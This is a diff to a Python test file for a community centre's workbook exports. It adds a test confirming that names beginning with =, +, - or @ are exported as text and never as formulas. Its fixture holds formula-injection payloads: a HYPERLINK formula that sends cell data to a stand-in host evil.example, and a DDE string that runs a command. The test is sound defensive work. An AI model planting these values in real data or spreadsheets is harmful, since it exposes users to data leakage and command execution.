@@ -15,7 +15,7 @@ from center.config import DEMO_PASSWORD
 from center.services import dining
 from center.services.identity import load_user
 from center.tables import Canteen, Staff
-from center.timeutil import local_today
+from center.timeutil import LOCAL_TZ, local_today
 from tests.support.factories import load_demo, login, logout
 
 MONEY = "#,##0.00"
@@ -162,3 +162,52 @@ async def test_the_one_window_export_meets_the_standards(demo):
     assert name == f"窗口统计-{month[:4]}年{int(month[5:])}月-黛溪街道纸箱厂社区党群服务中心.xlsx"
     assert fallback == f"one-window-{month}-center-daxi.xlsx"
     await logout(demo)
+
+
+HOSTILE = {
+    "item": '=HYPERLINK("http://evil.example/x?"&C2,"打开")',
+    "resident": "=1+2",
+    "canteen": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "senior": "+1-2",
+}
+
+
+def formulas(book) -> list[str]:
+    """Every cell a spreadsheet program would compute. The project writes none: totals are values."""
+    return [f"{ws.title}!{cell.coordinate}={cell.value}" for ws in book.worksheets for row in ws.iter_rows()
+            for cell in row if cell.data_type == "f"]
+
+
+def texts(book) -> set[str]:
+    return {cell.value for ws in book.worksheets for row in ws.iter_rows() for cell in row
+            if isinstance(cell.value, str)}
+
+
+async def test_no_text_from_the_data_becomes_a_formula_in_any_export(demo):
+    """Issue #11, finding 5: names that begin with =, +, -, @ reach both workbooks as the text they are."""
+    from center.tables import Case, Item, Meal, Senior, Visit
+
+    month = local_today().replace(day=1)
+    start = datetime(month.year, month.month, 1, tzinfo=LOCAL_TZ)
+    case = await Case.select(Case.item, Case.visit).where(
+        (Case.center.slug == "daxi") & (Case.accepted_at >= start)).first()
+    await Item.update({Item.name: HOSTILE["item"]}).where(Item.id == case["item"])
+    await Visit.update({Visit.resident_name: HOSTILE["resident"]}).where(Visit.id == case["visit"])
+    canteen = await Canteen.select(Canteen.id).where(Canteen.code == "C01").first()
+    meal = await Meal.select(Meal.senior).where(
+        (Meal.canteen == canteen["id"]) & (Meal.eaten_at >= start)).first()
+    await Canteen.update({Canteen.name: HOSTILE["canteen"]}).where(Canteen.id == canteen["id"])
+    await Senior.update({Senior.name: HOSTILE["senior"]}).where(Senior.id == meal["senior"])
+
+    await login(demo, "manager", DEMO_PASSWORD)
+    counter = load_workbook(io.BytesIO((await demo.get(f"/counter/stats/export.xlsx?month={month:%Y-%m}")).content))
+    dining_book = load_workbook(io.BytesIO(
+        (await demo.get(f"/dining/months/export.xlsx?month={month:%Y-%m}&canteen={canteen['id']}")).content))
+    await logout(demo)
+
+    assert formulas(counter) == [] and formulas(dining_book) == []
+    assert {HOSTILE["item"], "=***"} <= texts(counter)  # the item as typed; the resident masked, still text
+    assert {HOSTILE["canteen"], "+***"} <= texts(dining_book)
+    for book, value in ((counter, HOSTILE["item"]), (dining_book, HOSTILE["canteen"])):
+        cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value == value]
+        assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)  # stays text when edited
